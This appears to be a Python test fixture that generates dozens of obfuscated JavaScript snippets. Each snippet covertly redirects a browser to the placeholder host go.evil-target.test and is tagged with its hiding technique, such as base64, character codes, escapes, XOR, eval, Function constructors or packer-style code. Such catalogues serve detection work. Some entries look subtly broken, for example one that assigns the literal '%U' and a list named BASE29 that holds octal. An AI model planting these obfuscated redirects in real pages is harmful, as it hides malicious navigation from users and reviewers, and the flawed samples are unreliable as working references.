"""Scripts that hide where they lead, one a line, with the step that must be told. U is where they lead."""

from base64 import b64encode

U = "https://go.evil-target.test/x"
B64 = b64encode(U.encode()).decode()
CODE = f"location='{U}'"
CODE_B64 = b64encode(CODE.encode()).decode()
CODES = ",".join(str(ord(letter)) for letter in U)
REVERSED = U[::-1]
HEX = "".join(f"\\x{ord(letter):02x}" for letter in U)
UNICODE = "".join(f"\\u{ord(letter):04x}" for letter in U)
BRACED = "".join(f"\\u{{{ord(letter):x}}}" for letter in U)
OCTAL = "".join(f"\\{ord(letter):03o}" for letter in U)
PERCENT = "".join(f"%{ord(letter):02X}" for letter in U)
PERCENT_U = "".join(f"%u{ord(letter):04X}" for letter in U)
XORED = ",".join(str(ord(letter) ^ 42) for letter in U)
SHIFTED = "".join(chr(ord(letter) + 3) for letter in U)
HEX_DIGITS = U.encode().hex()
ROT13 = U.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
SPACED = "_".join(U)
EVERY_SECOND = "".join(letter + "q" for letter in U)
BASE29 = ",".join(f"'{ord(letter):o}'" for letter in U)

HIDDEN = [
    (f"location = atob('{B64}')", "atob"),
    (f"window.location.href = window.atob('{B64}')", "atob"),
    (f"window['at'+'ob']('{B64}'); location = window['at'+'ob']('{B64}')", "atob"),
    (f"location = decodeURIComponent(escape(atob('{B64}')))", "atob"),
    (
        f"location = decodeURIComponent(atob('{B64}').split('').map(function (c) {{ return '%' + ('00' + c.charCodeAt(0).toString(16)).slice(-2) }}).join(''))",
        "atob",
    ),
    (f"location = String.fromCharCode({CODES})", "fromCharCode"),
    (f"location = String.fromCharCode.apply(null, [{CODES}])", "fromCharCode"),
    (f"location = String.fromCharCode(...[{CODES}])", "fromCharCode"),
    (f"location = String.fromCodePoint({CODES})", "fromCharCode"),
    (f"location = [{CODES}].map(c => String.fromCharCode(c)).join('')", "fromCharCode"),
    (f"var s = ''; [{CODES}].forEach(function (c) {{ s += String.fromCharCode(c) }}); location = s", "fromCharCode"),
    (f"var s = '', a = [{CODES}]; for (var i = 0; i < a.length; i++) s += String['fromCharCode'](a[i]); location = s", "fromCharCode"),
    (f"var s = '', a = [{CODES}]; for (const c of a) s = s + String.fromCharCode(c); location = s", "fromCharCode"),
    (f"var a = [{CODES}], s = '', i = 0; while (i < a.length) {{ s += String.fromCharCode(a[i++]) }} location = s", "fromCharCode"),
    (f"location = [{CODES}].reduce((s, c) => s + String.fromCharCode(c), '')", "fromCharCode"),
    (f"location = '{CODES}'.split(',').map(Number).map(c => String.fromCharCode(c)).join('')", "fromCharCode"),
    (f"location = '{REVERSED}'.split('').reverse().join('')", "reverse"),
    (f"location = [...'{REVERSED}'].reverse().join('')", "reverse"),
    (f"location = Array.from('{REVERSED}').reverse().join('')", "reverse"),
    (f"var r = '{REVERSED}', s = ''; for (var i = r.length - 1; i >= 0; i--) s += r.charAt(i); location = s", "slice"),
    (f"var r = '{REVERSED}', s = ''; for (var i = r.length; i--;) s += r[i]; location = s", "slice"),
    (f"location = '{HEX}'", "escapes"),
    (f"location = '{UNICODE}'", "escapes"),
    (f"location = '{BRACED}'", "escapes"),
    (f"location = '{OCTAL}'", "escapes"),
    (f"window['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e'] = '{HEX}'", "escapes"),
    (f"location = unescape('{PERCENT}')", "unescape"),
    (f"location = unescape('{PERCENT_U}')", "unescape"),
    (f"location = decodeURIComponent('{PERCENT}')", "decodeURIComponent"),
    (f"location = decodeURI(unescape('{PERCENT}'))", "unescape"),
    (f"location = [{XORED}].map(c => String.fromCharCode(c ^ 42)).join('')", "xor"),
    (f"function d(a, k) {{ var s = ''; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); return s }} location = d([{XORED}], 42)", "xor"),
    (f"var s = '', t = '{SHIFTED}'; for (var i = 0; i < t.length; i++) s += String.fromCharCode(t.charCodeAt(i) - 3); location = s", "fromCharCode"),
    (f"location = '{HEX_DIGITS}'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join('')", "fromCharCode"),
    (
        f"var h = '{HEX_DIGITS}', s = ''; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); location = s",
        "fromCharCode",
    ),
    (f"location = unescape('%' + '{HEX_DIGITS}'.match(/.{{2}}/g).join('%'))", "unescape"),
    (f"location = '{HEX_DIGITS}'.replace(/../g, function (h) {{ return String.fromCharCode(parseInt(h, 16)) }})", "fromCharCode"),
    (
        f"location = '{ROT13}'.replace(/[a-zA-Z]/g, function (c) {{ return String.fromCharCode((c <= 'Z' ? 90 : 122) "
        f">= (c = c.charCodeAt(0) + 13) ? c : c - 26) }})",
        "fromCharCode",
    ),
    (f"location = '{SPACED}'.split('_').join('')", "join"),
    (f"location = '{SPACED}'.replace(/_/g, '')", "replace"),
    (f"location = '{SPACED}'.replaceAll('_', '')", "replace"),
    (f"var e = '{EVERY_SECOND}', s = ''; for (var i = 0; i < e.length; i += 2) s += e.substring(i, i + 1); location = s", "slice"),
    (f"location = '{EVERY_SECOND}'.split('').filter((c, i) => i % 2 == 0).join('')", "join"),
    (f"location = [{BASE29}].map(function (o) {{ return String.fromCharCode(parseInt(o, 8)) }}).join('')", "fromCharCode"),
    ("location = ['https:', '', 'go.evil-' + 'target.test', 'x'].join('/')", "join"),
    ("var p = {c: 'target.test/x', a: 'https://', b: 'go.evil-'}; location = p.a + p.b + p['c']", "concat"),
    ("var a = ['evil-', 'https://go.', 'target.test/x']; a.push(a.shift()); location = a[0] + a[2] + a[1]", "concat"),
    ("var t = ['x', 'test/', 'target.', 'evil-', 'go.', '//', 'https:']; var s = ''; while (t.length) s += t.pop(); location = s", "concat"),
    ("location = 'hxxps://go[.]evil-target[.]test/x'.replace('hxxp', 'http').replace(/\\[\\.\\]/g, '.')", "replace"),
    ("location = 'HTTPS://GO.EVIL-TARGET.TEST/X'.toLowerCase()", "case"),
    ("location = 'https://' + 'go.evil-target.test/x'.trim()", "concat"),
    ("location = 'https://go.evil-'.concat('target', '.test/x')", "concat"),
    ("location = `${'https'}://go.${'evil-target'}.test/x`", "concat"),
    ("location = 'XXhttps://go.evil-target.test/xYY'.slice(2, -2)", "slice"),
    ("var i = 0; i += 2; location = ['a', 'b', '%U'.substr(0)][i]", "slice"),
    (f"eval(atob('{CODE_B64}'))", "atob"),
    (f"window['ev' + 'al'](atob('{CODE_B64}'))", "atob"),
    (f"(0, eval)(atob('{CODE_B64}'))", "atob"),
    (f"var e = eval; e(atob('{CODE_B64}'))", "atob"),
    (f"this['eval'](atob('{CODE_B64}'))", "atob"),
    (f"new Function(atob('{CODE_B64}'))()", "Function"),
    (f"Function('return ' + 'function () {{ eval(atob(\"{CODE_B64}\")) }}')()()", "Function"),
    (f"[].filter.constructor(atob('{CODE_B64}'))()", "Function"),
    (f"[]['constructor']['constructor'](atob('{CODE_B64}'))()", "Function"),
    (f"''.sub.constructor(atob('{CODE_B64}'))()", "Function"),
    (f"(function () {{}}).constructor(atob('{CODE_B64}'))()", "Function"),
    (f"setTimeout(atob('{CODE_B64}'), 10)", "atob"),
    (f"execScript(atob('{CODE_B64}'))", "atob"),
    (f"var s = document.createElement('script'); s.text = atob('{CODE_B64}'); document.body.appendChild(s)", "atob"),
    (f"eval(\"eval(atob('{CODE_B64}'))\")", "atob"),
    (f"eval('eval(\\'eval(atob(\"{CODE_B64}\"))\\')')", "atob"),
    (f"Array.prototype.slice.call(['{B64}']).forEach(function (b) {{ location = atob(b) }})", "atob"),
    (f"String.prototype.d = function () {{ return atob(this) }}; location = '{B64}'.d()", "atob"),
    (f"var k = 'at', o = {{}}; o[k + 'ob'] = window[k + 'ob']; location = o.atob('{B64}')", "atob"),
    (f"function f(x) {{ return g(x) }} function g(x) {{ return atob(x) }} location = f('{B64}')", "atob"),
    (f"(function (w, f, b) {{ w[f][['href'][0]] = w[['a', 't', 'o', 'b'].join('')](b) }})(window, 'location', '{B64}')", "atob"),
    (f"var c = (function () {{ var b = '{B64}'; return {{get: function () {{ return atob(b) }}}} }})(); location = c.get()", "atob"),
    (f"let {{a, b = '{B64}'}} = {{a: atob}}; location = a(b)", "atob"),
    (f"location = [atob, '{B64}'].reduce((f, b) => f(b))", "atob"),
    (f"try {{ document.nothing.at.all() }} catch (e) {{ location = atob('{B64}') }}", "atob"),
    (f"try {{ undeclared; }} catch (e) {{ location = atob('{B64}') }}", "atob"),
    (f"var d = new Date(2011, 3, 5, 2, 21, 4); location = d.getSeconds() == 4 ? atob('{B64}') : '/'", "atob"),
    (f"if (document.cookie.indexOf('a') == -1) {{ var s = '', a = [{CODES}]; for (var i in a) s += String.fromCharCode(a[i]); location = s }}", "fromCharCode"),
]

# What the code in between only does to be unreadable.
PACKED = [
    (
        "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];"
        "e=function(){return'\\\\w+'};"
        "c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0=\\'1://2.3-4.5/6\\'',7,7,"
        "'location|https|go|evil|target|test|x'.split('|'),0,{}))",
        "packer",
    ),
    (
        "var _0xa1b2=['href','https://go.','evil-target','location','.test/x'];(function(a,n){var f=function(m){while(--m){a['push'](a['shift']())}};f(++n)}"
        "(_0xa1b2,0x2));var _0xc3d4=function(i,_){i=i-0x0;var r=_0xa1b2[i];return r};"
        "window[_0xc3d4('0x1')][_0xc3d4('0x3')]=_0xc3d4('0x4')+_0xc3d4('0x0')+_0xc3d4('0x2')",
        "concat",
    ),
    (
        "function _0x5c(){var a=['12target','1evil-','7https://go.','.test/x','3x'];_0x5c=function(){return a};return _0x5c()}function _0x5d(i,"
        "k){var a=_0x5c();"
        "return _0x5d=function(j,q){j=j-0x64;return a[j]},_0x5d(i,k)}(function(f,n){var g=_0x5d,a=f();"
        "while(!![]){try{var t=parseInt(g(0x64))/0x1+parseInt(g(0x65))*0x2;"
        "if(t===n)break;else a['push'](a['shift']())}catch(e){a['push'](a['shift']())}}}(_0x5c,0xf));"
        "location=_0x5d(0x65).slice(1)+_0x5d(0x64).slice(1)+'target'+_0x5d(0x66)",
        "slice",
    ),
    (
        "var s='4|0|3|1|2'.split('|'),i=0;while(true){switch(s[i++]){case'0':var b='//go.';continue;case'1':var d='target.test/x';continue;"
        "case'2':location=a+b+c+d;continue;"
        "case'3':var c='evil-';continue;case'4':var a='https:';continue}break}",
        "concat",
    ),
    (
        f"for(var e='',k='key',c=[{','.join(str(ord(x) ^ ord('key'[i % 3])) for i, x in enumerate(U))}],i=0;i<c.length;"
        f"i++)e+=String.fromCharCode(c[i]^k.charCodeAt(i%k.length));location=e",
        "xor",
    ),
    (f"var z='{HEX_DIGITS}';var o='';for(i=0;i<z.length;i+=2){{o+='%'+z.substr(i,2)}}eval('loc'+'ation=unescape(o)')", "eval"),
]
